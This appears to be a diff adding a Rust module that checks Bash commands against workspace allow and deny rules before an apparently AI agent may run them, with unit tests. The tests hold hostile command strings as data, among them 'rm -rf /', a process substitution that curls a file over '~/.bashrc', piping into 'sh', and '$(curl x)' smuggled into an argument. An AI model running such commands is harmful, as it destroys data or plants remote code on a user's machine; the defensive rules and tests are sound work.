@@ -0,0 +1,175 @@
+//! A workspace's rules for `Bash` permission requests.
+//!
+//! Deny rules are regexes searched anywhere in the command, so `rm\s+-rf` catches it in
+//! the middle of a pipeline. Allow rules must match a whole command: a compound command
+//! is split on `&&`, `||`, `;`, `|`, `&` and newlines and every part has to match one.
+//! Commands a rule cannot see through are never allowed by rule: command and process
+//! substitution, `${…}` expansion, and output redirected anywhere but `/dev/null`.
+//! Requests no rule decides go on to the permission preset or the user as before.
+
+use regex::Regex;
+
+use crate::backend::control::PermissionDecision;
+use crate::types::{BashAction, BashPolicy};
+
+pub(crate) const BASH_TOOL: &str = "Bash";
+
+/// What the policy says about `command`, and the rule that said it.
+pub(crate) fn evaluate(policy: &BashPolicy, command: &str) -> (BashAction, Option<String>) {
+    if let Some(rule) = policy
+        .deny
+        .iter()
+        .find(|rule| compile(rule, false).is_some_and(|regex| regex.is_match(command)))
+    {
+        return (BashAction::Deny, Some(rule.clone()));
+    }
+    if hides_work(command) {
+        return (BashAction::Ask, None);
+    }
+    let allow: Vec<(&String, Regex)> = policy
+        .allow
+        .iter()
+        .filter_map(|rule| compile(rule, true).map(|regex| (rule, regex)))
+        .collect();
+    let mut deciding = None;
+    for part in command_parts(command) {
+        let Some((rule, _)) = allow.iter().find(|(_, regex)| regex.is_match(part)) else {
+            return (BashAction::Ask, None);
+        };
+        deciding.get_or_insert((*rule).clone());
+    }
+    match deciding {
+        Some(rule) => (BashAction::Allow, Some(rule)),
+        None => (BashAction::Ask, None),
+    }
+}
+
+/// The answer to send for `action`, or `None` when the request should be asked about.
+pub(crate) fn permission(action: BashAction, rule: Option<&str>) -> Option<PermissionDecision> {
+    match action {
+        BashAction::Allow => Some(PermissionDecision::Allow {
+            updated_input: None,
+            always: false,
+        }),
+        BashAction::Deny => Some(PermissionDecision::Deny {
+            message: Some(format!(
+                "The workspace's Bash policy does not allow this command (rule `{}`).",
+                rule.unwrap_or_default()
+            )),
+            interrupt: false,
+        }),
+        BashAction::Ask => None,
+    }
+}
+
+/// Rules that are not valid regexes are skipped.
+fn compile(rule: &str, whole: bool) -> Option<Regex> {
+    let rule = rule.trim();
+    if rule.is_empty() {
+        return None;
+    }
+    let pattern = if whole {
+        format!("^(?:{rule})$")
+    } else {
+        rule.to_string()
+    };
+    match Regex::new(&pattern) {
+        Ok(regex) => Some(regex),
+        Err(err) => {
+            tracing::warn!("skipping invalid Bash policy rule {rule:?}: {err}");
+            None
+        }
+    }
+}
+
+/// Substitutions and expansions run or read something before the command does, and a
+/// redirection can write any file, whatever the command itself is.
+const HIDDEN_WORK: [&str; 5] = ["$(", "`", "<(", ">(", "${"];
+
+fn hides_work(command: &str) -> bool {
+    HIDDEN_WORK.iter().any(|marker| command.contains(marker))
+        || command
+            .replace("> /dev/null", "")
+            .replace(">/dev/null", "")
+            .contains('>')
+}
+
+/// The simple commands `command` chains together, trimmed, without empty ones.
+fn command_parts(command: &str) -> impl Iterator<Item = &str> {
+    command
+        .split(['\n', ';', '|', '&'])
+        .map(str::trim)
+        .filter(|part| !part.is_empty())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn policy() -> BashPolicy {
+        BashPolicy {
+            allow: vec![
+                "git (status|log|diff)( .*)?".to_string(),
+                "ls( .*)?".to_string(),
+            ],
+            deny: vec![r"rm\s+-rf".to_string(), "(".to_string()],
+        }
+    }
+
+    #[test]
+    fn deny_rules_match_anywhere() {
+        let (action, rule) = evaluate(&policy(), "git status && rm -rf /");
+        assert_eq!(action, BashAction::Deny);
+        assert_eq!(rule.as_deref(), Some(r"rm\s+-rf"));
+    }
+
+    #[test]
+    fn allow_rules_cover_every_part() {
+        assert_eq!(
+            evaluate(&policy(), "git status && ls -la | git log -1"),
+            (
+                BashAction::Allow,
+                Some("git (status|log|diff)( .*)?".to_string())
+            )
+        );
+        assert_eq!(evaluate(&policy(), "git push").0, BashAction::Ask);
+        assert_eq!(
+            evaluate(&policy(), "git status; npm publish").0,
+            BashAction::Ask
+        );
+        assert_eq!(evaluate(&policy(), "git diff $(curl x)").0, BashAction::Ask);
+        assert_eq!(evaluate(&policy(), "git diff `curl x`").0, BashAction::Ask);
+        assert_eq!(
+            evaluate(&policy(), "ls <(curl https://x -o ~/.bashrc)").0,
+            BashAction::Ask
+        );
+        assert_eq!(evaluate(&policy(), "ls >(sh)").0, BashAction::Ask);
+        assert_eq!(evaluate(&policy(), "ls ${HOME:=x}").0, BashAction::Ask);
+        assert_eq!(evaluate(&policy(), "ls > ~/.bashrc").0, BashAction::Ask);
+        assert_eq!(
+            evaluate(&policy(), "git log >> notes.txt").0,
+            BashAction::Ask
+        );
+        assert_eq!(
+            evaluate(&policy(), "ls missing 2>/dev/null").0,
+            BashAction::Allow
+        );
+        assert_eq!(evaluate(&policy(), "   ").0, BashAction::Ask);
+    }
+
+    #[test]
+    fn answers_by_action() {
+        assert!(matches!(
+            permission(BashAction::Allow, Some("ls")),
+            Some(PermissionDecision::Allow { always: false, .. })
+        ));
+        assert!(matches!(
+            permission(BashAction::Deny, Some("rm")),
+            Some(PermissionDecision::Deny {
+                interrupt: false,
+                ..
+            })
+        ));
+        assert!(permission(BashAction::Ask, None).is_none());
+    }
+}